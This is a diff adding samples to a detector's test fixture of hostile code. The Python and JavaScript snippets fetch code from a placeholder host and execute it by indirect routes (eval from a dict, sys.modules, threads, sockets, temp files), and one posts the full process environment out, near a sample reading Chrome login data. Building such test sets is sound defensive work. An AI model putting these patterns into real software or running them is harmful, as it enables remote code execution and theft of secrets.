@@ -122,6 +122,21 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("a.ipynb", 2),
         ),
+        "out of a dictionary": py("import requests\n{'a': eval}.get('a')(requests.get('https://a.invalid').text)\n"),
+        "as a static method": py(
+            "import requests\nclass A:\n    run = staticmethod(exec)\nA.run(requests.get('https://a.invalid').text)\n",
+            line=4,
+        ),
+        "through sys.modules": py(
+            "import sys, requests\nsys.modules['builtins'].exec(requests.get('https://a.invalid').text)\n"
+        ),
+        "in a thread": py(
+            "import threading, requests\n"
+            "threading.Thread(target=exec, args=(requests.get('https://a.invalid').text,)).start()\n"
+        ),
+        "from a socket": py(
+            "import socket\ns = socket.socket()\ns.connect(('a.invalid', 1))\nexec(s.recv(999))\n", line=4
+        ),
         "to a name that is worked out while it runs": py(
             "import builtins, requests, sys\ngetattr(builtins, sys.argv[1])(requests.get('https://a.invalid').text)\n",
             verdict="review",
@@ -139,6 +154,20 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "in JavaScript": js(
             "const { exec } = require('child_process');\n"
             "fetch('https://a.invalid').then(r => r.text()).then(t => exec(t));\n"
+        ),
+        "a temporary file is fetched, then run": py(
+            "import tempfile, requests, subprocess\nwith tempfile.NamedTemporaryFile(delete=False) as f:\n"
+            "    f.write(requests.get('https://a.invalid').content)\nsubprocess.Popen(['python', f.name])\n",
+            line=4,
+        ),
+        "a file is retrieved, then run": py(
+            "import urllib.request, os\nurllib.request.urlretrieve('https://a.invalid/x', '/tmp/x.py')\n"
+            "os.system('python3 /tmp/x.py')\n",
+            line=3,
+        ),
+        "by a promise": js(
+            "const run = require('util').promisify(require('child_process').exec);\n"
+            "fetch('https://a.invalid').then(r => r.text()).then(run);\n"
         ),
         "a part of a command": py(
             "import os, requests\nos.system('echo ' + requests.get('https://a.invalid').text)\n", verdict="review"
@@ -258,6 +287,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             line=3,
         ),
         "the whole environment": js("const axios = require('axios');\naxios.post('https://a.invalid', process.env);\n"),
+        "the environment, spread": js(
+            "const body =\n  JSON.stringify({ ...process.env });\n"
+            "fetch('https://a.invalid', { method: 'POST', body });\n",
+            line=3,
+        ),
         "cookies of a browser": js(
             "const fs = require('fs'), os = require('os'), path = require('path');\n"
             "const p = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Login Data');\n"
